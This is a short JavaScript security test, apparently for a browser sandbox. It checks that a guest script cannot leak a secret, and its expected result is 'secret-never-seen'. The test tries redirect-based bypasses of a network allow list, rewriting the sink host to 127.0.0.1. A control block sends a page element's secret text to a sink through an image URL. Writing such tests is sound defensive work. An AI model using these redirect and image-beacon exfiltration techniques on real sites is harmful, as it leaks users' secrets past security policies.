//! guest = "app"
//! promise = "secret-never-seen"
//! policy = { network = { allow = ["http://{upstream}"], secrets = ["key"] }, resources = { inlineScripts = true }, sandbox = { storage = "own" } }
//! wait_ms = 6000
(async () => {
  for (const redirect of ["follow", "manual"]) await fetch(UPSTREAM + "/redirect/" + SINK.slice(7).replace("sink.localhost", "127.0.0.1") + "/taken", { redirect }).catch(() => {});
  end("asked");
})();
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
